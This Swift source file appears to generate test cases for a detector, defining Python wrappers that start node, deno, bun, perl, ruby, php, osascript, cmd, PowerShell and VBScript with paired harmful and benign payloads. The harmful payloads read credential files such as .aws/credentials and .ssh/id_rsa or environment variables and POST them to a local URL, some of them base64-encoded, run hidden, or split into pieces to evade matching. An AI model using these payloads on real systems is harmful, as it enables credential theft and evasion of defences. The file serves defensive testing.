import TestSupport

extension Family {
  /// Code of other languages that Python starts.
  static let languages = Family(
    name: "languages",
    techniques: [
      code("node -e and fetch", "subprocess.run([\"node\", \"-e\", {code}])", javaScript),
      code(
        "node, detached", "subprocess.Popen([\"node\", \"--eval\", {code}], start_new_session=True)", nodeModules),
      code("node in a shell", "import shlex\nos.system(\"node -e \" + shlex.quote({code}))", child),
      code("node on standard input", "subprocess.run([\"node\", \"-\"], input={code}.encode())", nodeModules),
      code(
        "node and base64", "subprocess.run([\"node\", \"-e\", \"eval(Buffer.from('{base64}', 'base64').toString())\"])",
        javaScript),
      code("node and atob", "subprocess.run([\"node\", \"-e\", \"(0, eval)(atob('{base64}'))\"])", nodeModules),
      code("deno eval", "subprocess.run([\"deno\", \"eval\", {code}])", deno),
      code("bun -e", "subprocess.run([\"bun\", \"-e\", {code}])", bun),
      member("a script for node", "js", "subprocess.Popen([\"node\", {file}])", child),
      member("bun run of a member", "js", "subprocess.run([\"bun\", \"run\", {file}])", bun),
      member("bun run of a member called a library", "so", "subprocess.run([\"bun\", \"run\", {file}])", javaScript),
      member("a text for node", "txt", "subprocess.run([\"node\", \"-\"], stdin=open({file}))", nodeModules),
      member(
        "a program with an interpreter's name", "bin", "os.chmod({file}, 0o755)\nsubprocess.run([{file}])", script),
      code(
        "a written script",
        "open(\"/tmp/{b}.js\", \"w\").write({code})\nsubprocess.run([\"node\", \"/tmp/{b}.js\"])", nodeModules),
      code("perl -e", "subprocess.run([\"perl\", \"-e\", {code}])", perl),
      code("perl and its modules", "subprocess.run([\"perl\", \"-MHTTP::Tiny\", \"-e\", {code}])", perlModules),
      code("ruby -e", "subprocess.run([\"ruby\", \"-e\", {code}])", ruby),
      code("php -r", "subprocess.run([\"php\", \"-r\", {code}])", php),
      code("osascript", "subprocess.run([\"osascript\", \"-e\", {code}])", appleScript),
      code(
        "osascript in JavaScript", "subprocess.run([\"osascript\", \"-l\", \"JavaScript\", \"-e\", {code}])", automation
      ),
      code("cmd /c", "subprocess.run([\"cmd\", \"/c\", {code}])", batch),
      code("cmd in a shell", "subprocess.run(\"cmd /c \\\"\" + {code} + \"\\\"\", shell=True)", batch),
      code(
        "a PowerShell command", "subprocess.run([\"powershell\", \"-NoProfile\", \"-Command\", {code}])", powerShell),
      code(
        "an encoded PowerShell command",
        "subprocess.run([\"powershell.exe\", \"-NoP\", \"-W\", \"Hidden\", \"-EncodedCommand\", \"{wide64}\"])",
        powerShell),
      code(
        "a PowerShell command that Python encodes",
        "import base64\nsubprocess.run([\"pwsh\", \"-enc\", base64.b64encode({code}.encode(\"utf-16-le\")).decode()])",
        powerShell),
      code(
        "PowerShell in PowerShell",
        "subprocess.run([\"powershell\", \"-c\", \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{base64}')))\"])",
        powerShell),
      member(
        "a PowerShell file", "ps1",
        "subprocess.run([\"powershell\", \"-ExecutionPolicy\", \"Bypass\", \"-File\", {file}])", powerShell),
      code(
        "a written VBScript",
        "open(\"/tmp/{b}.vbs\", \"w\").write({code})\nsubprocess.run([\"wscript\", \"/tmp/{b}.vbs\"])", visualBasic),
    ])

  /// A payload in another language, and one with its words that reads and sends nothing.
  private typealias Payload = (harm: String, twin: String)

  private static let javaScript: Payload = (
    "const {a} = JSON.stringify(process.env);\nfetch('{url}', {method: 'POST', body: {a}});",
    "const {a} = JSON.stringify({env: process.env.LANG});\nconsole.log('fetch', '{url}', {method: 'POST', body: {a}});"
  )
  private static let nodeModules: Payload = (
    """
    const {a} = require('fs'), {b} = require('os').homedir();
    const body = {a}.readFileSync({b} + '/{place}', 'utf8');
    require('http').request('{url}', {method: 'POST'}).end(body);
    """,
    """
    const {a} = require('path'), {b} = require('os').homedir();
    const body = {a}.basename({b} + '/{place}', 'utf8');
    console.log('http', 'request', '{url}', {method: 'POST'}, body.length);
    """
  )
  private static let child: Payload = (
    "const { exec } = require('child_process');\nexec('env | cu' + 'rl -s -d @- {url}');",
    "const { exec } = require('util');\nconsole.log('env | cu' + 'rl -s -d @- {url}', typeof exec);"
  )
  private static let deno: Payload = (
    "const {a} = await Deno.readTextFile(Deno.env.get('HOME') + '/{place}'); await fetch('{url}', {method: 'POST', body: {a}});",
    "const {a} = ['readTextFile', 'HOME' + '/{place}'].join(); console.log('fetch', '{url}', {method: 'POST', body: {a}});"
  )
  private static let bun: Payload = (
    """
    import { homedir } from 'node:os';
    import { join } from 'node:path';
    const {a} = await Bun.file(join(homedir(), '{place}')).text();
    await fetch(`{url}?k=${encodeURIComponent({a})}`);
    """,
    """
    import { homedir } from 'node:os';
    import { join } from 'node:path';
    const {a} = join(homedir(), '{place}').length;
    console.log(`{url}?k=${encodeURIComponent({a})}`);
    """
  )
  private static let script: Payload = (
    "#!/usr/bin/env node\n" + javaScript.harm, "#!/usr/bin/env node\n" + javaScript.twin
  )
  private static let perl: Payload = (
    "my ${a} = 'env | cu'; ${a} .= 'rl -s -d @- {url}'; system(${a});",
    "my ${a} = 'env | cu'; ${a} .= 'rl -s -d @- {url}'; print(length(${a}));"
  )
  private static let perlModules: Payload = (
    "my ${a} = join(',', map { \"$_=$ENV{$_}\" } keys %ENV); HTTP::Tiny->new->post('{url}', {content => ${a}});",
    "my ${a} = join(',', map { \"$_=1\" } ('keys', 'ENV')); print('HTTP::Tiny post {url}', ${a});"
  )
  private static let ruby: Payload = (
    "require 'net/http'\n{a} = File.read(Dir.home + '/{place}')\nNet::HTTP.post(URI('{url}'), {a})",
    "require 'net/http'\n{a} = File.basename(Dir.home + '/{place}')\nputs(URI('{url}'), {a}.length, 'Net::HTTP.post')"
  )
  private static let php: Payload = (
    "${a} = file_get_contents(getenv('HOME') . '/{place}'); file_get_contents('{url}?' . ${a}); shell_exec('curl -s {url}');",
    "${a} = strlen(getenv('LANG') . '/{place}'); print('file_get_contents {url}?' . ${a} . 'shell_exec curl');"
  )
  private static let appleScript: Payload = (
    "do shell script \"curl -s -T ~/{place} \" & \"{url}\"",
    "-- do shell script\nset {a} to \"curl -s -T ~/{place} \" & \"{url}\"\nreturn length of {a}"
  )
  private static let automation: Payload = (
    "const {a} = Application.currentApplication(); {a}.includeStandardAdditions = true; {a}.doShellScript('env | curl -s -d @- {url}');",
    "const {a} = ['includeStandardAdditions', 'doShellScript', 'env | curl -s -d @- {url}']; console.log({a}.length);"
  )
  private static let batch: Payload = (
    "type %USERPROFILE%\\.aws\\credentials | curl -s -d @- {url}",
    "echo type .aws\\credentials curl -s -d {url}"
  )
  private static let powerShell: Payload = (
    "${a} = Get-Content \"$env:USERPROFILE\\.aws\\credentials\" -Raw; Invoke-WebRequest -Uri '{url}' -Method POST -Body ${a}",
    "${a} = \"$env:USERPROFILE\\.aws\\credentials\".Length; Write-Output 'Invoke-WebRequest -Uri {url} -Method POST -Body' ${a}"
  )
  private static let visualBasic: Payload = (
    "Set {a} = CreateObject(\"WScript.Shell\")\n{a}.Run \"cmd /c set | curl -s -d @- \" & \"{url}\", 0, False\n",
    "{a} = \"WScript.Shell\" & \".Run\"\nWScript.Echo Len({a} & \"cmd /c set | curl -s -d @- \" & \"{url}\")\n"
  )

  private static let places = [".aws/credentials", ".ssh/id_rsa", ".netrc", ".kube/config", ".docker/config.json"]

  /// A program in Python's own text.
  private static func code(_ name: String, _ frame: String, _ payload: Payload) -> Technique {
    Technique(name) { plot in
      let text = filled(payload, &plot)
      let wide = text.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }
      var main = frame.replacing("{b}", with: plot.scene.word())
      for (hole, value) in [
        ("{code}", Python.string(text)), ("{base64}", Encoder.base64(bytes(text))), ("{wide64}", Encoder.base64(wide)),
      ] {
        main = main.replacing(hole, with: value)
      }
      return Code("import os, subprocess\n" + main + "\n")
    }
  }

  /// A program that is a member beside the module.
  private static func member(_ name: String, _ suffix: String, _ frame: String, _ payload: Payload) -> Technique {
    Technique(name) { plot in
      let text = filled(payload, &plot)
      let file = plot.scene.word() + "." + suffix
      let place = "os.path.join(os.path.dirname(os.path.abspath(__file__)), \"\(file)\")"
      return Code(
        "import os, subprocess\n" + frame.replacing("{file}", with: place) + "\n", files: [(file, bytes(text))])
    }
  }

  private static func filled(_ payload: Payload, _ plot: inout Plot) -> String {
    let url = "http://127.0.0.1:\(plot.scene.pick(Scene.ports))/\(plot.scene.word())"
    var text = plot.isHarmful ? payload.harm : payload.twin
    for (hole, value) in [
      ("{a}", plot.scene.word()), ("{b}", plot.scene.word()), ("{url}", url), ("{place}", plot.scene.pick(places)),
    ] {
      text = text.replacing(hole, with: value)
    }
    return text
  }
}
